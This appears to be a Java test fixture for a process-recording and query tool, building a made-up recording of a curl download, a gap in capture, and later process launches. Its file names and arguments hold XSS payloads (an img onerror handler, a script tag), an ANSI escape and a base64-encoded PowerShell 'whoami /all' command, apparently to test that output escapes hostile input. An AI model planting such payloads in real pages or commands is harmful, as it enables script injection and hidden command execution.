package io.drec.query.cli;

import io.drec.journal.JournalConfig;
import io.drec.journal.JournalWriter;
import io.drec.record.FrameBuilder;
import io.drec.record.FrameView;
import io.drec.record.LossCause;
import io.drec.record.RecordLayout;
import io.drec.sample.Flow;
import io.drec.sample.Frames;
import io.drec.sample.Proc;
import io.drec.sample.Session;
import io.drec.store.RecordingDirectory;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.Base64;

/**
 * A recording on disk of a made-up download, with names that would like to be markup and commands,
 * and with a gap.
 */
final class Evidence {
  static final String ADDRESS = "203.0.113.7";

  /** What it would do to a page that took it for HTML. */
  static final String HOSTILE = "/opt/<img src=x onerror=document.title='owned'>";

  private Evidence() {}

  static void write(Path directory) throws IOException {
    FrameBuilder builder = new FrameBuilder(RecordLayout.FRAME_LENGTH_MAX);
    try (RecordingDirectory recording = RecordingDirectory.openForRecording(directory, null);
        JournalWriter journal =
            JournalWriter.open(JournalConfig.of(recording.journal()).withReserveBytes(0))) {
      for (FrameView frame : story()) {
        append(journal, builder, frame);
      }
      journal.sync();
      recording.shareFiles();
    }
  }

  private static Frames story() {
    Frames frames = new Frames();
    frames.start();
    frames.notCaptured("pipes and local sockets");
    Proc init = frames.running(1, "/sbin/init", "/sbin/init");
    Proc shell = init.fork(100).cwd("/opt").exec("/bin/bash", "-bash");
    Proc curl = shell.fork(200).exec("/usr/bin/curl", "curl", "-o", HOSTILE, "http://x/");
    Flow download = curl.connect(ADDRESS, 8080);
    Session saved = curl.create(HOSTILE, 72);
    saved.close(812);
    download.close(80, 1_024);
    curl.exit(0);
    long nowNs = frames.nowNs();
    frames.lost(LossCause.RING_FULL, nowNs - 3 * Frames.MS, nowNs - 2 * Frames.MS, 17);
    Proc tool = shell.fork(201).exec(HOSTILE, "</script><script>alert(1)</script>", "\u001b[31m");
    tool.exit(0);
    shell.fork(202).exec("/usr/bin/pwsh", "pwsh", "-enc", encoded("whoami <b>/all</b>")).exit(0);
    return frames;
  }

  private static String encoded(String script) {
    return Base64.getEncoder().encodeToString(script.getBytes(StandardCharsets.UTF_16LE));
  }

  private static void append(JournalWriter journal, FrameBuilder builder, FrameView frame) {
    builder.clear();
    frame.forEach(
        (index, record) -> {
          byte[] bytes = record.toByteArray();
          builder.add(ByteBuffer.wrap(bytes).order(ByteOrder.LITTLE_ENDIAN), 0, bytes.length);
        });
    long sequence =
        journal.append(
            builder,
            new FrameBuilder.Origin(
                frame.hostId(), frame.bootId(), frame.clock(), frame.clockOffsetNs()));
    if (sequence == JournalWriter.REFUSED) {
      throw new AssertionError("refused: " + journal.refusal());
    }
  }
}
